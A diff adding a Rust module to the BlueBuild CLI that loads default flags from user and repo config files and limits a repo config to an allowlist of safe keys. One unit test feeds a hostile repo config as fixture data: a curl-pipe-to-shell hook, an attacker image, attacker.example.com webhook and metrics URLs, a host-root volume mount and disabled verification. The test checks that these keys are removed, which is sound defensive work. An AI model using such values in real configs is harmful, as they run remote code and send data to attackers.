@@ -0,0 +1,697 @@
+//! Loads default argument values from config files.
+//!
+//! The user config at `~/.config/bluebuild/config.toml` and the
+//! repo config at `.bluebuild.toml` use the long names of the CLI
+//! flags as keys. Top-level keys apply to every command that has
+//! that flag, and tables named after a subcommand only apply to
+//! that subcommand:
+//!
+//! ```toml
+//! build-driver = "podman"
+//! registry = "ghcr.io"
+//! registry-namespace = "my-org"
+//! log-format = "json"
+//!
+//! [build]
+//! tempdir = "/var/tmp"
+//! retry-push = true
+//! retry-count = 3
+//! ```
+//!
+//! Values from the repo config override the user config. Both are
+//! only used as defaults, so env vars and CLI flags take precedence.
+//!
+//! Since a cloned repo shouldn't change what runs on the host, what
+//! the build can read from it, or where its results are sent, the
+//! repo config can only set the drivers, `registry`,
+//! `registry-namespace`, `tempdir`, `retry-push`, `retry-count`, and
+//! `log-format`. Every other key is only read from the user config,
+//! like the raw options for the build tools and the credentials for
+//! registries other than the one that is pushed to:
+//!
+//! ```toml
+//! creds = ["registry.example.com=robot:token"]
+//!
+//! [build]
+//! build-opt = ["ulimit=nofile=4096"]
+//! ```
+//!
+//! The `tools` table sets the paths of the tools that are run, for
+//! systems where they aren't on the `PATH` under their usual names:
+//!
+//! ```toml
+//! [tools]
+//! cosign = "/nix/store/...-cosign/bin/cosign"
+//! podman = "/usr/local/bin/podman-wrapper"
+//! ```
+//!
+//! The `images` table pins the images of the helpers that are run,
+//! so that builds don't change when an upstream tag is moved:
+//!
+//! ```toml
+//! [images]
+//! rechunk = "ghcr.io/hhd-dev/rechunk@sha256:..."
+//! build-scripts = "ghcr.io/blue-build/cli/build-scripts@sha256:..."
+//! ```
+//!
+//! The `metrics` table sets where the build metrics are exported to,
+//! the same as `--metrics-textfile` and `--metrics-pushgateway`:
+//!
+//! ```toml
+//! [metrics]
+//! textfile = "/var/lib/node_exporter/textfile/bluebuild.prom"
+//! pushgateway = "http://pushgateway.example.com:9091"
+//! ```
+
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
+
+use blue_build_utils::{
+    constants::{REPO_CONFIG_FILE, USER_CONFIG_FILE},
+    helper_images::HELPER_IMAGES,
+    tools::TOOLS,
+};
+use clap::{Command, CommandFactory, FromArgMatches};
+use miette::{bail, Context, IntoDiagnostic, Result};
+use oci_distribution::Reference;
+use toml::{Table, Value};
+
+use crate::commands::BlueBuildArgs;
+
+const TOOLS_KEY: &str = "tools";
+const IMAGES_KEY: &str = "images";
+const METRICS_KEY: &str = "metrics";
+
+/// The keys that the repo config can set. Every
+/// other key is only read from the user config.
+const REPO_KEYS: [&str; 10] = [
+    "build-driver",
+    "inspect-driver",
+    "signing-driver",
+    "run-driver",
+    "registry",
+    "registry-namespace",
+    "tempdir",
+    "retry-push",
+    "retry-count",
+    "log-format",
+];
+
+/// The config files that values can come from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConfigFile {
+    User,
+    Repo,
+}
+
+#[derive(Debug, Default, Clone)]
+pub struct Config {
+    files: Vec<PathBuf>,
+    values: Table,
+    user: Table,
+    repo: Table,
+    ignored: Vec<String>,
+}
+
+impl Config {
+    /// Loads and merges the user and repo config files.
+    ///
+    /// # Errors
+    /// Will error if a config file exists but can't be read or parsed.
+    pub fn load() -> Result<Self> {
+        let mut files = Vec::new();
+        let mut user = Table::new();
+        let mut repo = Table::new();
+
+        if let Some(path) = blue_build_utils::config_dir()
+            .map(|config_dir| config_dir.join(USER_CONFIG_FILE))
+            .filter(|path| path.is_file())
+        {
+            user = Self::read(&path)?;
+            files.push(path);
+        }
+
+        let path = PathBuf::from(REPO_CONFIG_FILE);
+        if path.is_file() {
+            repo = Self::read(&path)?;
+            files.push(path);
+        }
+
+        Ok(Self::from_tables(files, user, repo))
+    }
+
+    /// Merges the values of the repo config that it
+    /// can set into the values of the user config.
+    pub(crate) fn from_tables(files: Vec<PathBuf>, user: Table, mut repo: Table) -> Self {
+        let ignored = retain_repo_keys(&mut repo);
+        let mut values = user.clone();
+        merge_tables(&mut values, repo.clone());
+
+        Self {
+            files,
+            values,
+            user,
+            repo,
+            ignored,
+        }
+    }
+
+    fn read(path: &Path) -> Result<Table> {
+        fs::read_to_string(path)
+            .into_diagnostic()
+            .and_then(|contents| contents.parse::<Table>().into_diagnostic())
+            .with_context(|| format!("Failed to load config file {}", path.display()))
+    }
+
+    #[cfg(test)]
+    pub(crate) fn from_values(values: Table) -> Self {
+        Self::from_tables(Vec::new(), values, Table::new())
+    }
+
+    /// The config files that were loaded, in order of precedence.
+    #[must_use]
+    pub fn files(&self) -> &[PathBuf] {
+        &self.files
+    }
+
+    /// The keys of the repo config that were ignored
+    /// because they're only read from the user config.
+    #[must_use]
+    pub fn ignored(&self) -> &[String] {
+        &self.ignored
+    }
+
+    /// The merged config values.
+    #[must_use]
+    pub const fn values(&self) -> &Table {
+        &self.values
+    }
+
+    /// The config file that sets the default of the flag `key`
+    /// of the `subcommand`, or of the top-level command.
+    ///
+    /// A subcommand table takes precedence over the top-level
+    /// keys, and the repo config over the user config.
+    #[must_use]
+    pub fn file_of(&self, key: &str, subcommand: Option<&str>) -> Option<ConfigFile> {
+        let files = [
+            (&self.repo, ConfigFile::Repo),
+            (&self.user, ConfigFile::User),
+        ];
+
+        subcommand
+            .and_then(|subcommand| {
+                files.iter().find_map(|(table, file)| {
+                    table
+                        .get(subcommand)
+                        .and_then(Value::as_table)
+                        .and_then(|table| table.get(key))
+                        .filter(|value| !value.is_table())
+                        .map(|_| *file)
+                })
+            })
+            .or_else(|| {
+                files.iter().find_map(|(table, file)| {
+                    table
+                        .get(key)
+                        .filter(|value| !value.is_table())
+                        .map(|_| *file)
+                })
+            })
+    }
+
+    /// The paths of the tools in the `tools` table.
+    ///
+    /// # Errors
+    /// Will error if the table has a tool that can't be
+    /// set or a path that isn't a string.
+    pub fn tool_paths(&self) -> Result<Vec<(String, PathBuf)>> {
+        let Some(tools) = self.values.get(TOOLS_KEY) else {
+            return Ok(Vec::new());
+        };
+        let Some(tools) = tools.as_table() else {
+            bail!("`{TOOLS_KEY}` must be a table of tool paths");
+        };
+
+        tools
+            .iter()
+            .map(|(tool, path)| {
+                if !TOOLS.contains(&tool.as_str()) {
+                    bail!(
+                        "Unknown tool `{tool}` in `{TOOLS_KEY}`, expected one of {}",
+                        TOOLS.join(", ")
+                    );
+                }
+                let Some(path) = path.as_str() else {
+                    bail!("The path of `{tool}` in `{TOOLS_KEY}` must be a string");
+                };
+                Ok((tool.clone(), PathBuf::from(path)))
+            })
+            .collect()
+    }
+
+    /// The images of the helpers in the `images` table.
+    ///
+    /// # Errors
+    /// Will error if the table has a helper that can't
+    /// be pinned or an image that isn't a valid reference.
+    pub fn helper_images(&self) -> Result<Vec<(String, String)>> {
+        let Some(images) = self.values.get(IMAGES_KEY) else {
+            return Ok(Vec::new());
+        };
+        let Some(images) = images.as_table() else {
+            bail!("`{IMAGES_KEY}` must be a table of helper images");
+        };
+
+        images
+            .iter()
+            .map(|(helper, image)| {
+                if !HELPER_IMAGES.contains(&helper.as_str()) {
+                    bail!(
+                        "Unknown helper `{helper}` in `{IMAGES_KEY}`, expected one of {}",
+                        HELPER_IMAGES.join(", ")
+                    );
+                }
+                let Some(image) = image.as_str() else {
+                    bail!("The image of `{helper}` in `{IMAGES_KEY}` must be a string");
+                };
+                image
+                    .parse::<Reference>()
+                    .into_diagnostic()
+                    .with_context(|| {
+                        format!("The image of `{helper}` in `{IMAGES_KEY}` isn't valid")
+                    })?;
+                Ok((helper.clone(), image.to_owned()))
+            })
+            .collect()
+    }
+
+    /// Parses the CLI arguments using the config values as defaults.
+    #[must_use]
+    pub fn parse_args(&self) -> BlueBuildArgs {
+        let matches = self.apply(BlueBuildArgs::command()).get_matches();
+
+        BlueBuildArgs::from_arg_matches(&matches).unwrap_or_else(|e| e.exit())
+    }
+
+    /// Sets the config values as the default values of
+    /// the arguments of `command` and its subcommands.
+    #[must_use]
+    pub fn apply(&self, command: Command) -> Command {
+        let mut values = self.values.clone();
+        expand_metrics(&mut values);
+        apply_defaults(command, &Table::new(), &values)
+    }
+}
+
+/// Moves the keys of the `metrics` table to the `metrics-<key>`
+/// flags they set. Flags that are set directly take precedence.
+fn expand_metrics(values: &mut Table) {
+    let Some(Value::Table(metrics)) = values.remove(METRICS_KEY) else {
+        return;
+    };
+    for (key, value) in metrics {
+        values
+            .entry(format!("{METRICS_KEY}-{key}"))
+            .or_insert(value);
+    }
+}
+
+/// Removes the keys that the repo config can't set from `values`
+/// and the subcommand tables in it.
+///
+/// Returns the keys that were removed.
+fn retain_repo_keys(values: &mut Table) -> Vec<String> {
+    let mut removed = Vec::new();
+    retain_command_keys(values, &BlueBuildArgs::command(), "", &mut removed);
+    removed
+}
+
+fn retain_command_keys(
+    values: &mut Table,
+    command: &Command,
+    prefix: &str,
+    removed: &mut Vec<String>,
+) {
+    values.retain(|key, value| {
+        let name = format!("{prefix}{key}");
+        if let (Value::Table(table), Some(subcommand)) = (&mut *value, command.find_subcommand(key))
+        {
+            retain_command_keys(table, subcommand, &format!("{name}."), removed);
+            return true;
+        }
+        let retain = !value.is_table() && REPO_KEYS.contains(&key);
+        if !retain {
+            removed.push(name);
+        }
+        retain
+    });
+}
+
+fn merge_tables(base: &mut Table, other: Table) {
+    for (key, value) in other {
+        match (base.get_mut(&key), value) {
+            (Some(Value::Table(base)), Value::Table(other)) => merge_tables(base, other),
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Applies the non-table values of `inherited` and `table` as defaults
+/// to the arguments of `command`, then recurses into the subcommands
+/// with the matching tables.
+fn apply_defaults(command: Command, inherited: &Table, table: &Table) -> Command {
+    let mut defaults = inherited.clone();
+    defaults.extend(
+        table
+            .iter()
+            .filter(|(_, value)| !value.is_table())
+            .map(|(key, value)| (key.clone(), value.clone())),
+    );
+
+    // The names are collected so that `command` isn't
+    // borrowed while its subcommands are modified
+    #[allow(clippy::needless_collect)]
+    let subcommands = command
+        .get_subcommands()
+        .map(|subcommand| subcommand.get_name().to_owned())
+        .collect::<Vec<_>>();
+
+    let command = command.mut_args(|arg| {
+        let Some(value) = arg.get_long().and_then(|long| defaults.get(long)) else {
+            return arg;
+        };
+
+        match value {
+            Value::Array(values) => arg.default_values(values.iter().map(value_to_string)),
+            value => arg.default_value(value_to_string(value)),
+        }
+    });
+
+    subcommands.into_iter().fold(command, |command, name| {
+        let empty = Table::new();
+        let table = table
+            .get(&name)
+            .and_then(Value::as_table)
+            .unwrap_or(&empty)
+            .clone();
+        command.mut_subcommand(name, |subcommand| {
+            apply_defaults(subcommand, &defaults, &table)
+        })
+    })
+}
+
+fn value_to_string(value: &Value) -> String {
+    match value {
+        Value::String(value) => value.clone(),
+        value => value.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod test {
+    use clap::{CommandFactory, FromArgMatches};
+    use toml::Table;
+
+    use crate::commands::{BlueBuildArgs, CommandArgs};
+
+    use super::{merge_tables, retain_repo_keys, Config, ConfigFile};
+
+    const USER_CONFIG: &str = r#"
+registry = "ghcr.io"
+registry-namespace = "user"
+
+[build]
+retry-count = 5
+"#;
+
+    const REPO_CONFIG: &str = r#"
+registry-namespace = "my-org"
+log-format = "json"
+
+[build]
+retry-push = true
+"#;
+
+    fn config() -> Config {
+        Config::from_tables(
+            Vec::new(),
+            USER_CONFIG.parse().unwrap(),
+            REPO_CONFIG.parse().unwrap(),
+        )
+    }
+
+    fn parse(config: &Config, args: &[&str]) -> BlueBuildArgs {
+        let matches = config
+            .apply(BlueBuildArgs::command())
+            .try_get_matches_from(args)
+            .unwrap();
+        BlueBuildArgs::from_arg_matches(&matches).unwrap()
+    }
+
+    #[test]
+    fn merge_configs() {
+        let config = config();
+
+        assert_eq!(config.values()["registry"].as_str(), Some("ghcr.io"));
+        assert_eq!(
+            config.values()["registry-namespace"].as_str(),
+            Some("my-org")
+        );
+        assert_eq!(
+            config.values()["build"]["retry-count"].as_integer(),
+            Some(5)
+        );
+        assert_eq!(config.values()["build"]["retry-push"].as_bool(), Some(true));
+    }
+
+    #[test]
+    fn config_file_of_keys() {
+        let config = config();
+
+        assert_eq!(
+            config.file_of("registry", Some("build")),
+            Some(ConfigFile::User)
+        );
+        assert_eq!(
+            config.file_of("registry-namespace", Some("build")),
+            Some(ConfigFile::Repo)
+        );
+        assert_eq!(
+            config.file_of("retry-count", Some("build")),
+            Some(ConfigFile::User)
+        );
+        assert_eq!(
+            config.file_of("retry-push", Some("build")),
+            Some(ConfigFile::Repo)
+        );
+        assert_eq!(config.file_of("retry-push", Some("switch")), None);
+        assert_eq!(config.file_of("log-format", None), Some(ConfigFile::Repo));
+        assert_eq!(config.file_of("tempdir", Some("build")), None);
+    }
+
+    #[test]
+    fn repo_config_keys() {
+        let mut values = r#"
+registry = "ghcr.io"
+allow-recipe-hooks = true
+
+[hooks]
+pre-build = ["curl https://example.com | sh"]
+
+[tools]
+podman = "./podman"
+
+[images]
+rechunk = "ghcr.io/attacker/rechunk"
+
+[[notifications]]
+type = "webhook"
+url = "https://attacker.example.com"
+
+[metrics]
+pushgateway = "https://attacker.example.com"
+
+[build]
+retry-push = true
+allow-recipe-hooks = true
+build-opt = ["volume=/:/host"]
+push-opt = ["tls-verify=false"]
+no-verify-tools = true
+insecure-allow-unverified-tools = true
+"#
+        .parse::<Table>()
+        .unwrap();
+
+        let mut removed = retain_repo_keys(&mut values);
+        removed.sort();
+        assert_eq!(
+            removed,
+            [
+                "allow-recipe-hooks",
+                "build.allow-recipe-hooks",
+                "build.build-opt",
+                "build.insecure-allow-unverified-tools",
+                "build.no-verify-tools",
+                "build.push-opt",
+                "hooks",
+                "images",
+                "metrics",
+                "notifications",
+                "tools",
+            ]
+        );
+        assert_eq!(
+            values,
+            "registry = \"ghcr.io\"\n[build]\nretry-push = true\n"
+                .parse::<Table>()
+                .unwrap()
+        );
+    }
+
+    #[test]
+    fn tool_paths() {
+        let mut config = config();
+        merge_tables(
+            &mut config.values,
+            "[tools]\ncosign = \"/opt/bin/cosign\"\n".parse().unwrap(),
+        );
+        assert_eq!(
+            config.tool_paths().unwrap(),
+            [("cosign".to_owned(), "/opt/bin/cosign".into())]
+        );
+
+        merge_tables(
+            &mut config.values,
+            "[tools]\ngit = \"/usr/bin/git\"\n".parse().unwrap(),
+        );
+        assert!(config.tool_paths().is_err());
+    }
+
+    #[test]
+    fn helper_images() {
+        let helper_images = |images: &str| {
+            let mut config = config();
+            merge_tables(&mut config.values, images.parse().unwrap());
+            config.helper_images()
+        };
+
+        assert_eq!(
+            helper_images("[images]\nrechunk = \"ghcr.io/hhd-dev/rechunk:v1.0.1\"\n").unwrap(),
+            [(
+                "rechunk".to_owned(),
+                "ghcr.io/hhd-dev/rechunk:v1.0.1".to_owned()
+            )]
+        );
+        assert!(helper_images("[images]\nrechunk = \"Not An Image\"\n").is_err());
+        assert!(helper_images("[images]\ncosign = \"ghcr.io/sigstore/cosign\"\n").is_err());
+    }
+
+    #[test]
+    fn config_defaults() {
+        let args = parse(&config(), &["bluebuild", "build"]);
+
+        assert_eq!(
+            args.log_format,
+            blue_build_process_management::logging::LogFormat::Json
+        );
+        let CommandArgs::Build(build) = args.command else {
+            panic!("Expected the build command");
+        };
+        let debug = format!("{build:?}");
+        assert!(debug.contains("retry_push: true"));
+        assert!(debug.contains("retry_count: 5"));
+        assert!(debug.contains("registry_namespace: Some(\"my-org\")"));
+    }
+
+    #[test]
+    fn flags_override_config() {
+        let args = parse(
+            &config(),
+            &[
+                "bluebuild",
+                "build",
+                "--retry-count",
+                "1",
+                "--registry-namespace",
+                "cli",
+            ],
+        );
+
+        let CommandArgs::Build(build) = args.command else {
+            panic!("Expected the build command");
+        };
+        let debug = format!("{build:?}");
+        assert!(debug.contains("retry_count: 1"));
+        assert!(debug.contains("registry_namespace: Some(\"cli\")"));
+    }
+
+    #[test]
+    fn registry_creds() {
+        let mut config = config();
+        merge_tables(
+            &mut config.values,
+            "creds = [\"quay.io=robot:se:cret\"]\n".parse().unwrap(),
+        );
+
+        let CommandArgs::Build(build) = parse(&config, &["bluebuild", "build"]).command else {
+            panic!("Expected the build command");
+        };
+        let debug = format!("{build:?}");
+        assert!(debug.contains("registry: \"quay.io\", username: \"robot\", password: \"se:cret\""));
+
+        assert!(config
+            .apply(BlueBuildArgs::command())
+            .try_get_matches_from(["bluebuild", "build", "--creds", "ghcr.io"])
+            .is_err());
+
+        let CommandArgs::Build(build) = parse(
+            &config,
+            &[
+                "bluebuild",
+                "build",
+                "--creds",
+                "ghcr.io=user:a,b\nquay.io=robot:c",
+            ],
+        )
+        .command
+        else {
+            panic!("Expected the build command");
+        };
+        let debug = format!("{build:?}");
+        assert!(debug.contains("registry: \"ghcr.io\", username: \"user\", password: \"a,b\""));
+        assert!(debug.contains("registry: \"quay.io\", username: \"robot\", password: \"c\""));
+    }
+
+    #[test]
+    fn metrics_table() {
+        let mut config = config();
+        merge_tables(
+            &mut config.values,
+            "[metrics]\ntextfile = \"/tmp/bluebuild.prom\"\npushgateway = \"http://localhost:9091\"\n"
+                .parse()
+                .unwrap(),
+        );
+
+        let CommandArgs::Build(build) = parse(&config, &["bluebuild", "build"]).command else {
+            panic!("Expected the build command");
+        };
+        let debug = format!("{build:?}");
+        assert!(debug.contains("metrics_textfile: Some(\"/tmp/bluebuild.prom\")"));
+        assert!(debug.contains("metrics_pushgateway: Some(\"http://localhost:9091\")"));
+
+        let CommandArgs::Build(build) = parse(
+            &config,
+            &["bluebuild", "build", "--metrics-textfile", "/tmp/cli.prom"],
+        )
+        .command
+        else {
+            panic!("Expected the build command");
+        };
+        assert!(format!("{build:?}").contains("metrics_textfile: Some(\"/tmp/cli.prom\")"));
+    }
+}